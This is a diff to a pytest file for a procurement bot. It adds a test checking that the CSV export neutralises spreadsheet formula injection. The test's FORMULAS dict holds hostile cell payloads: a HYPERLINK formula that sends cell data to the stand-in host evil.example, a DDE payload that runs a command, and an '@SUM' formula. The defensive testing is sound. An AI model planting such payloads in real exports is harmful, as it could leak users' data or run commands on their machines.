@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+from decimal import Decimal
 from pathlib import Path
 
 import pytest
@@ -16,7 +17,16 @@ from bot.services import Procurement
 from storage.engine import make_engine
 from storage.migrate import upgrade
 from storage.repository import SqlUnitOfWorkFactory
-from tests.fakes import EXAMPLE_POLICY, IT, REQUESTER, SECURITY, clock, draft, example_policy
+from tests.fakes import (
+    EXAMPLE_POLICY,
+    IT,
+    PROCUREMENT,
+    REQUESTER,
+    SECURITY,
+    clock,
+    draft,
+    example_policy,
+)
 
 runner = CliRunner()
 
@@ -83,6 +93,45 @@ def test_export_writes_csv(filled: str) -> None:
     assert [r["number"] for r in rows] == ["PR-1001", "PR-1002"]
     assert rows[0]["steps"] == "IT review=approved; Security review=rejected; Procurement=closed"
     assert runner.invoke(app, ["export", "--since", "yesterday"]).exit_code == 1
+
+
+FORMULAS = {
+    "title": '=HYPERLINK("https://evil.example/?"&A1,"Quote")',
+    "vendor": "+cmd|' /C calc'!A0",
+    "cost_centre": "@SUM(1+1)",
+}
+
+
+@pytest.mark.parametrize("lead", ["", "\t", "\r"])
+def test_export_neutralises_formula_cells(filled: str, lead: str) -> None:
+    service = Procurement(
+        uow=SqlUnitOfWorkFactory(make_engine(filled)), policy=example_policy(), clock=clock()
+    )
+    hostile = {name: lead + text for name, text in FORMULAS.items()}
+    request = service.submit(
+        requester=IT[0],
+        draft=draft(**hostile, unit_price=Decimal("45.00"), quantity=1),
+        channel=Channel.SLACK,
+    )
+    for approver in (IT[1], SECURITY, PROCUREMENT):
+        service.approve(request_id=request.id, actor=approver, channel=Channel.SLACK)
+    service.record_po(
+        request_id=request.id, actor=PROCUREMENT, po_number="-2+3", channel=Channel.SLACK
+    )
+    result = runner.invoke(app, ["export"])
+    assert result.exit_code == 0, result.output
+    row = next(r for r in csv.DictReader(io.StringIO(result.output)) if r["number"] == "PR-1003")
+    # Each text cell reads as text in a spreadsheet, and still says what was typed.
+    assert {name: row[name] for name in [*hostile, "po_number"]} == {
+        **{name: f"'{text}" for name, text in hostile.items()},
+        "po_number": "'-2+3",
+    }
+    # Our own numbers stay numbers.
+    assert (row["unit_price"], row["quantity"], row["annual_amount_base"]) == (
+        "45.00",
+        "1",
+        "540.00",
+    )
 
 
 def test_policy_check_ok_and_errors(tmp_path: Path) -> None:
